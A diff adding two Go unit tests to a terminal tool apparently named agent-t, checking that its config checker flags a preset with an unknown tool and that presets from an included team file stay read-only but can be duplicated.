+func TestCheckConfig(t *testing.T) {
+	svc := configuredProject(t, "custom_commands:\n  Dev: make dev\n")
+	cfg, err := config.Parse([]byte(`default_tool: Dev
+presets:
+  - name: dev
+    project: svc
+    layout: "2x2"
+    tool: Dev
+  - name: old
+    project: api
+    layout: "4,4"
+    tool: Cursor
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	projects := append([]scanner.Project{svc}, testProjects...)
+	problems := CheckConfig(cfg, projects)
+	if len(problems) != 1 || problems[0].String() != `line 10: preset "old": tool "Cursor" not found` {
+		t.Fatalf("CheckConfig() = %v", problems)
+	}
+
+	m := NewModel(projects, cfg, "", nil, nil)
+	if view := m.View(); !strings.Contains(view, `tool "Cursor" not found`) || !strings.Contains(view, "agent-t config check") {
+		t.Errorf("the header should list config problems:\n%s", view)
+	}
+}
+
+func TestPresetList_IncludedPresetsAreReadOnly(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("AGENT_T_CONFIG", filepath.Join(dir, "config.yaml"))
+	t.Setenv("XDG_CONFIG_DIRS", filepath.Join(dir, "etc"))
+	team := filepath.Join(dir, "team.yaml")
+	if err := os.WriteFile(team, []byte("presets:\n  - {name: team-api, project: api, layout: \"2\"}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte("include: [team.yaml]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := config.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	m := NewModel(testProjects, cfg, "", nil, nil)
+	item, _ := m.list.SelectedItem().(presetItem)
+	if !strings.Contains(item.Description(), "read-only, from "+team) {
+		t.Errorf("the preset list should mark included presets, got %q", item.Description())
+	}
+	for _, k := range []string{"x", "r", "e"} {
+		m = sendKeys(m, keyRunes(k))
+		if !strings.Contains(m.statusMsg, "read-only") || m.namingPreset || m.deletingPreset != "" || m.editingPreset != "" {
+			t.Errorf("%s on an included preset should be refused, status %q", k, m.statusMsg)
+		}
+	}
+	m = sendKeys(m, keyRunes("c"))
+	if _, ok := m.Config().FindPreset("team-api copy"); !ok || !m.ConfigChanged() {
+		t.Error("an included preset should still be duplicable")
+	}
+}